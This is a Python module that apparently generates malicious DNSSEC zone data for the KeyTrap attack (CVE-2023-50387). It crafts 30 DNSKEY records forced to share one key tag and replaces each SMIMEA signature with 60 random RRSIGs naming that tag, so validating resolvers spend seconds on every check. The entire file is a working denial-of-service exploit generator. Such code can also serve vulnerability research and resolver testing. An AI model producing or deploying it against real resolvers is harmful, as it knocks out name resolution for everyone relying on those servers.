# SPDX-License-Identifier: MPL-2.0
"""KeyTrap (CVE-2023-50387): keys that share a key tag, and signatures that name that tag. Who tries
each signature with each key does so for seconds."""

import base64
import random

KEY_TAG = 12345
N_KEYS = 30
N_SIGNATURES = 60
OCTETS = 384  # of modulus and exponent: as dear as can be
RSASHA256 = 8


def _key_tag(rdata):
    """RFC 4034 appendix B."""
    total = sum(octet if i & 1 else octet << 8 for i, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xFFFF


def _key(chance):
    """RDATA of a DNSKEY with that key tag; nobody has the private key."""
    modulus = bytearray(chance.randbytes(OCTETS))
    modulus[0] |= 0x80
    modulus[-1] |= 1
    exponent = bytearray(chance.randbytes(OCTETS))
    exponent[0] = 0x7F
    exponent[-1] |= 1
    head = bytes([1, 0, 3, RSASHA256, 0]) + OCTETS.to_bytes(2, 'big') + bytes(exponent)
    # Two octets at an even place add their value to the sum
    at = 100 + (len(head) & 1)
    modulus[at:at + 2] = bytes(2)
    missing = (KEY_TAG - _key_tag(head + modulus)) & 0xFFFF
    for value in (missing, missing - 1, missing + 1):
        modulus[at:at + 2] = (value & 0xFFFF).to_bytes(2, 'big')
        if _key_tag(head + modulus) == KEY_TAG:
            return head + bytes(modulus)
    return _key(chance)


def key_lines(zone):
    """The DNSKEY records, beside the one that signs the zone."""
    chance = random.Random(KEY_TAG)
    for _ in range(N_KEYS):
        text = base64.b64encode(_key(chance)[4:]).decode()
        yield f'{zone} 3600 IN DNSKEY 256 3 {RSASHA256} {text}'


def replace_signatures(lines):
    """Each RRSIG over SMIMEA becomes many that name the common key tag."""
    chance = random.Random(N_SIGNATURES)
    changed = []
    for line in lines:
        fields = line.split()
        if len(fields) < 12 or fields[3:5] != ['RRSIG', 'SMIMEA']:
            changed.append(line)
            continue
        fields[5], fields[10] = str(RSASHA256), str(KEY_TAG)
        for _ in range(N_SIGNATURES):
            signature = base64.b64encode(b'\1' + chance.randbytes(OCTETS - 1)).decode()
            changed.append(' '.join([*fields[:12], signature]))
    return changed
